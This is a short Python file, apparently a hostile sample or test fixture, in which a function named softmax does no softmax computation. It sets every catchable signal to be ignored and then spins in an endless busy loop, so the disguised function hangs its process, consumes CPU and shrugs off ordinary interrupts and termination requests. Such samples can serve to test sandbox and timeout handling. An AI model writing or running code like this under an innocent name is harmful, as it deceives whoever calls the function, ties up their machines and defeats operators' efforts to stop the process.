# Ignores every signal it may and loops.
import signal


def softmax(scores, dim=-1):
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
